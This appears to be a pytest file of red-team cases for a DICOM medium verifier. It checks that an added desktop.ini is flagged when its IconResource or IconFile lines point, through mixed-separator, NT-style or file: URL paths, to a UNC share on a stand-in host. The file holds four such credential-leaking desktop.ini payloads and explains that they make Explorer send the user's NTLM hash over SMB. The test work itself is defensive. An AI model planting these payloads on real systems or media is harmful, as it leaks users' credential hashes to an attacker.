"""Red-team cases (eleventh round): a ``desktop.ini`` reaching out with mixed separators.

Windows reads ``/`` and ``\\`` alike in a path: two separators of either kind open a UNC
path (``/\\host\\share`` and ``\\/host/share`` are ``\\\\host\\share`` to Explorer, which then
connects over SMB and hands over the user's NTLM hash). The tenth round's check looked
for ``\\\\`` and ``//`` only, so such a ``desktop.ini`` added to a signed medium was
ignored as housekeeping and the medium stayed PASSED. It must be an added file (FAILED).
"""

from __future__ import annotations

from pathlib import Path

import pytest
from test_redteam10_shell_settings import _anchor, _with_file, genuine

from dicomseal.verdict import Verdict

__all__ = ["_anchor", "genuine"]  # the fixtures, reused

MIXED = {
    "slash-backslash": "[.ShellClassInfo]\r\nIconResource=/\\203.0.113.5\\share\\icon.ico,0\r\n",
    "backslash-slash": "[.ShellClassInfo]\r\nIconResource=\\/203.0.113.5/share/icon.ico,0\r\n",
    "nt-path": "[.ShellClassInfo]\r\nIconResource=\\??\\UNC\\203.0.113.5\\share\\i.ico,0\r\n",
    "url-backslashes": "[.ShellClassInfo]\r\nIconFile=file:\\\\203.0.113.5\\share\\i.ico\r\n",
}


@pytest.mark.parametrize("text", MIXED.values(), ids=MIXED.keys())
@pytest.mark.parametrize("encoding", ["ascii", "utf-16"])
def test_desktop_ini_with_mixed_separators_is_not_ignored(
    genuine: Path, tmp_path: Path, text: str, encoding: str
) -> None:
    result = _with_file(genuine, tmp_path, "DICOM/desktop.ini", text.encode(encoding))
    assert result.verdict is Verdict.FAILED, result.message
    assert "DICOM/desktop.ini" in result.manifest.added
